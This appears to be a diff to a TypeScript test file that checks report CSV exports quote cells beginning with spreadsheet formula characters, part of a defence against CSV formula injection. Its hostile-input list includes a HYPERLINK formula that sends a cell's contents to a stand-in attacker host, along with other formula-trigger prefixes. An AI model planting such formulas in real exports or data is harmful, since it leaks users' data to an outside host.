@@ -1,11 +1,12 @@
+import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { collectChunks } from '../../src/reconcile/chunks.js';
-import { listItems, type ListSql, listText } from '../../src/reconcile/reportLists.js';
+import { FORMULA_STARTS, listItems, type ListSql, listText, REPORT_CSV_OPTIONS } from '../../src/reconcile/reportLists.js';
 import { createTestDatabase, type TestDatabase } from '../helpers/testDatabase.js';
 
 // Text a dossier or a receiver's reply can put in a report's list: what CSV quotes, what JSON
-// escapes, characters of several bytes, a NULL, an empty string.
+// escapes, characters of several bytes, a NULL, an empty string, what a spreadsheet would run.
 const HOSTILE: (string | null)[] = [
   'plain',
   'a,b',
@@ -23,6 +24,22 @@ const HOSTILE: (string | null)[] = [
   '\\N',
   'tab\there',
   '=1+1',
+  '=HYPERLINK("http://evil.example/?x="&A1,"D08")',
+  '=a,b',
+  '+1',
+  '-1',
+  '-',
+  '@SUM(A1)',
+  '\tlead tab',
+  '\rlead cr',
+  '\r\nlead crlf',
+  '\uff1d1',
+  '\uff0b1',
+  '\uff0d1',
+  '\uff201',
+  '\u22121',
+  "'=quoted",
+  ' =space',
   "it's",
   'é ü 中文 🙂',
   '\u0001\u0008\u000c\u001f\u007f',
@@ -57,9 +74,38 @@ describe("a report's long lists written by PostgreSQL are the text the writers w
   });
   const items = (n = rows.length): { a: string | null; b: string | null }[] => rows.slice(0, n).map(({ a, b }) => ({ a, b }));
 
-  it('writes the CSV rows csv-stringify writes', async () => {
+  it('writes the CSV rows csv-stringify writes, a formula quoted as a text cell', async () => {
     const csv = await collectChunks(listText(db.pool, list()).csv());
-    expect(csv).toBe(stringify(rows.map((r) => ['row', r.a, r.b])));
+    expect(csv).toBe(
+      stringify(
+        rows.map((r) => ['row', r.a, r.b]),
+        REPORT_CSV_OPTIONS,
+      ),
+    );
+    const cells = parse(csv)
+      .slice(0, HOSTILE.length)
+      .map((r) => r[2]);
+    expect(cells.filter((c) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(c!))).toEqual([]);
+    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"D08")`);
+    expect(cells).toContain("'\r\nlead crlf");
+    expect(cells).toContain('\u22121');
+    expect(cells).toContain("'=quoted");
+  });
+
+  it("quotes a cell for exactly the first characters csv-stringify's escape_formulas does", async () => {
+    // Every character of the basic plane but the surrogates, first in a cell.
+    const chars = await collectChunks(
+      listText(db.pool, { from: 'FROM generate_series(1, 65535) g WHERE g NOT BETWEEN 55296 AND 57343', orderBy: 'g', fields: [], csv: [`'row'`, `chr(g) || 'x'`] }).csv(),
+    );
+    const all = Array.from({ length: 65535 }, (_, i) => String.fromCharCode(i + 1)).filter((c) => !/[\ud800-\udfff]/.test(c));
+    expect(chars).toBe(
+      stringify(
+        all.map((c) => ['row', `${c}x`]),
+        REPORT_CSV_OPTIONS,
+      ),
+    );
+    const quoted = all.filter((c) => stringify([[`${c}x`]], REPORT_CSV_OPTIONS) !== stringify([[`${c}x`]]));
+    expect(quoted).toEqual([...FORMULA_STARTS].sort());
   });
 
   it('writes the JSON array JSON.stringify writes, at any indentation', async () => {
